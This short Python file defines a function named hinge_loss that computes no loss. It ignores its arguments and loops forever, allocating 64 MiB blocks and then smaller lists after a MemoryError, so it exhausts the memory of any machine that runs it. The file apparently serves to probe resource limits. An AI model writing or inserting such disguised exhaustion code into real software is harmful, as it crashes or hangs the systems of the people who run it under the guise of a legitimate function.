"""Allocate (and touch) memory until something gives."""


def hinge_loss(y_true, decision):
    hoard = []
    while True:
        try:
            hoard.append(bytearray(64 * 2**20))
        except MemoryError:
            hoard.append([0] * 10**6)  # keep going in smaller pieces
